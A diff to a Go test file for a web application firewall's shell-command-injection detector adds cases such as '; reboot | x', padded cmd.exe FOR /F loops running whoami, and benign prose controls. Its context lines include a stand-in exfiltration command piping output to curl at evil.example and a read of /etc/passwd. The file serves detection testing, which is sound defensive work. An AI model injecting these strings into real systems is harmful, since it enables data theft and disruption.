@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/portcullis-waf/portcullis/waf/detect"
@@ -53,6 +54,13 @@ func TestDocumentationShapes(t *testing.T) {
 		{"x; id | base64 | curl -d @- http://evil.example", detect.WhereQuery, true},
 		{"; cat FILE /etc/passwd", detect.WhereQuery, true},
 		{"x | dir", detect.WhereQuery, true},
+		// a pipe into a word weakens nothing after a breakout, nor a
+		// command that acts on its own at the end of a list
+		{"; reboot | x", detect.WhereQuery, true},
+		{"x && shutdown|aa", detect.WhereQuery, true},
+		{";id|aa", detect.WhereQuery, true},
+		{"a|b|c|reboot", detect.WhereQuery, true},
+		{"x; $(id|aa)", detect.WhereQuery, true},
 		{"x|id|base64", detect.WhereQuery, true},
 		{"`id`", detect.WhereQuery, true},
 		{"x; env", detect.WhereQuery, true},
@@ -81,11 +89,19 @@ func TestWindowsForLoop(t *testing.T) {
 		{`x& for /r c:\ %f in (*.ini) do type %f`, detect.WhereCookie, true},
 		{"for %variable in (set) do command", detect.WhereQuery, true},
 		{"for /L %n in (1,1,5) do ping -n 1 127.0.0.1", detect.WhereQuery, true},
+		// decoy FOR heads before the loop hide nothing, however many
+		{"x for for for for for for for for & for /f %i in ('whoami') do calc", detect.WhereQuery, true},
+		{strings.Repeat("for ", 500) + "& for /f %i in ('whoami') do calc", detect.WhereQuery, true},
+		{strings.Repeat("for /f %i in x ", 300) + "& for %i in (a) do calc", detect.WhereQuery, true},
+		// heads whose sets each run to the end cost a scan of the value
+		// each: past the work budget they are reported, not let through
+		{strings.Repeat("for %i in ('x)' ", 300) + "& for /f %i in ('whoami') do calc", detect.WhereQuery, true},
 		// prose and other loops
 		{"for each item in (the list) do something nice", detect.WhereForm, false},
 		{"I looked for a good set of tools in (my) garage to do the work", detect.WhereForm, false},
 		{"for 50% in (most cases) do nothing", detect.WhereForm, false},
 		{"for /f %i in ('whoami') do", detect.WhereQuery, false},
+		{strings.Repeat("for the love of it, ", 200) + "100% done", detect.WhereForm, false},
 	})
 	f, _ := New().Detect(detect.Input{Value: "a& for /f %i in ('whoami') do echo %i", Where: detect.WhereQuery})
 	if f.Start != 3 || f.Reason != "cmd.exe FOR /F loop over a command's output" {
